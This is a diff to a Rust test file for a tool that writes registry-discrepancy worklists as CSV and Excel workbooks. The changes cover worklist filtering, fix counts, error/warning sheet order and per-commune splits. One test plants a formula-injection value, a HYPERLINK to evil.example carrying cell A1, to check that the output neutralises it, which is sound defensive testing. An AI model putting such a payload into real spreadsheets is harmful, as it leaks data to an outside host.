@@ -27,15 +27,23 @@ const HEADERS: [&str; 15] = [
 
 /// (code, record_id) of every row of an agency folder's complete list, counted.
 fn csv_rows(agency_dir: &Path) -> BTreeMap<(String, String), usize> {
+    rows_where(agency_dir, |_| true)
+}
+
+/// (code, record_id) of the rows of an agency folder's complete list whose `action` is
+/// accepted, counted.
+fn rows_where(agency_dir: &Path, keep: impl Fn(&str) -> bool) -> BTreeMap<(String, String), usize> {
     let text = crate::discrepancies_csv(agency_dir);
     let mut r = csv::Reader::from_reader(text.as_bytes());
     let h = r.headers().unwrap().clone();
     let col = |n: &str| h.iter().position(|x| x.trim_start_matches('\u{feff}') == n).unwrap();
-    let (c, id) = (col("code"), col("record_id"));
+    let (c, id, action) = (col("code"), col("record_id"), col("action"));
     let mut out = BTreeMap::new();
     for rec in r.records() {
         let rec = rec.unwrap();
-        *out.entry((rec[c].to_string(), rec[id].to_string())).or_default() += 1;
+        if keep(&rec[action]) {
+            *out.entry((rec[c].to_string(), rec[id].to_string())).or_default() += 1;
+        }
     }
     out
 }
@@ -62,23 +70,29 @@ pub fn all_text(path: &Path) -> String {
     out
 }
 
+/// The worklist (SPEC §7): the workbook holds exactly the rows a person must decide —
+/// errors' sheets before warnings' — and the summary counts them and the fixes.
 #[test]
-fn discrepancies_xlsx_has_a_summary_and_a_sheet_per_code_matching_the_csv() {
+fn discrepancies_xlsx_is_the_worklist_with_a_summary_and_a_sheet_per_code() {
     let work = Work::new();
     assert_eq!(code(&work.run_demo("demo", "r1")), 0);
     let run = work.path().join("demo/runs/r1");
-    let mut scored = 0;
+    let (mut scored, mut fixed) = (0, 0);
     for agency in ["civil_status", "insurance", "land", "education"] {
-        let csv = csv_rows(&run.join(agency));
+        let csv = rows_where(&run.join(agency), |a| a == "work");
+        let fixes = std::fs::read_to_string(run.join(agency).join("fixes.csv")).unwrap().lines().count() - 1;
+        assert_eq!(fixes > 0, !rows_where(&run.join(agency), |a| a == "fix").is_empty(), "{agency}");
+        fixed += fixes;
         let mut book = open_workbook_auto(run.join(agency).join("discrepancies.xlsx")).unwrap();
         let sheets = book.sheet_names();
         assert_eq!(sheets[0], "Tổng hợp", "{agency}");
         let summary = book.worksheet_range("Tổng hợp").unwrap();
         assert_eq!(text(&summary[(0, 0)]), "Mã xã");
-        assert_eq!(text(&summary[(0, 4)]), "Đúng");
+        assert_eq!(text(&summary[(0, 5)]), "Đúng");
         assert!(text(&summary[(1, 1)]).starts_with("Toàn bộ"), "{agency}: {:?}", summary[(1, 1)]);
         let total_rows: usize = csv.values().sum();
-        assert_eq!(summary[(1, 3)], Data::Float(total_rows as f64), "{agency}: discrepancies in the summary");
+        assert_eq!(summary[(1, 3)], Data::Float(total_rows as f64), "{agency}: the worklist in the summary");
+        assert_eq!(summary[(1, 4)], Data::Float(fixes as f64), "{agency}: the fixes in the summary");
 
         let mut from_xlsx: BTreeMap<(String, String), usize> = BTreeMap::new();
         for name in &sheets[1..] {
@@ -93,15 +107,35 @@ fn discrepancies_xlsx_has_a_summary_and_a_sheet_per_code_matching_the_csv() {
                 scored += usize::from(tier3);
             }
         }
-        assert_eq!(from_xlsx, csv, "{agency}: the workbook's rows are the CSV's rows");
-        assert!(sheets.len() > 3, "{agency}: {sheets:?}");
-        // Sheets are filled on threads, but they come in the summary's code order.
-        let codes_at = summary.rows().position(|r| text(&r[0]) == "Mã lỗi (trang)").expect("code table");
+        assert_eq!(from_xlsx, csv, "{agency}: the workbook's rows are the worklist's rows");
+        assert!(sheets.len() >= 3, "{agency}: {sheets:?}");
+        // Sheets are filled on threads, but they come in the summary's code order: errors
+        // first, then warnings.
+        let codes_at = summary.rows().position(|r| text(&r[0]) == "Cần xử lý: mã lỗi (trang)").expect("code table");
         let listed: Vec<String> =
             summary.rows().skip(codes_at + 1).map(|r| text(&r[0])).take_while(|c| !c.is_empty()).collect();
         assert_eq!(listed, sheets[1..], "{agency}: sheet order");
+        let severities: Vec<String> =
+            summary.rows().skip(codes_at + 1).take(listed.len()).map(|r| text(&r[4])).collect();
+        let first_warning = severities.iter().position(|s| s == "cảnh báo").unwrap_or(severities.len());
+        assert!(severities[first_warning..].iter().all(|s| s == "cảnh báo"), "{agency}: {severities:?}");
+        // Each commune's workbook is its part of the worklist.
+        let mut split: BTreeMap<(String, String), usize> = BTreeMap::new();
+        for e in std::fs::read_dir(run.join(agency).join("by-commune")).unwrap().flatten() {
+            assert_eq!(e.path().extension().unwrap(), "xlsx", "{agency}: {e:?}");
+            let commune = e.path().file_stem().unwrap().to_string_lossy().to_string();
+            let mut book = open_workbook_auto(e.path()).unwrap();
+            for name in &book.sheet_names()[1..] {
+                for row in book.worksheet_range(name).unwrap().rows().skip(1) {
+                    assert_eq!(text(&row[2]), commune, "{agency}/{name} in {commune}.xlsx");
+                    *split.entry((name.clone(), text(&row[0]))).or_default() += 1;
+                }
+            }
+        }
+        assert_eq!(split, from_xlsx, "{agency}: the commune workbooks split the worklist");
     }
     assert!(scored > 0, "no tier-3 row in the demo's workbooks");
+    assert!(fixed > 0, "no fix in the demo");
 }
 
 #[test]
@@ -114,14 +148,16 @@ fn a_hostile_registry_value_is_inert_text_in_csv_and_xlsx() {
     // name comparison writes it into the lists.
     let hostile = "=HYPERLINK(\"http://evil.example/\"&A1,\"Bấm\")";
     let quoted = format!("\"{}\"", hostile.replace('"', "\"\""));
-    let patched = text_in.replacen("1201000001,Giàng A Páo", &format!("1201000001,{quoted}"), 1);
+    let mut patched = text_in.replacen("1201000001,Giàng A Páo", &format!("1201000001,{quoted}"), 1);
+    // And a short row with a formula for its record ID, which rejected.csv names.
+    patched.push_str(&format!("{quoted},x\r\n"));
     assert_ne!(patched, text_in);
     std::fs::write(&bhxh, patched).unwrap();
     assert_eq!(code(&work.run(&["run", "--job", job.to_str().unwrap(), "--run-id", "r1"])), 0);
     let dir = work.path().join("demo/runs/r1/insurance");
 
-    let csv = std::fs::read_to_string(dir.join("discrepancies.csv")).unwrap();
-    assert!(csv.contains("\"'=HYPERLINK("), "the CSV cell is not neutralized");
+    let csv = std::fs::read_to_string(dir.join("rejected.csv")).unwrap();
+    assert!(csv.contains("\"'=HYPERLINK("), "the CSV cell is not neutralized: {csv}");
     assert!(!csv.contains(",\"=HYPERLINK(") && !csv.contains(",=HYPERLINK("), "a live formula in the CSV");
 
     let path = dir.join("discrepancies.xlsx");
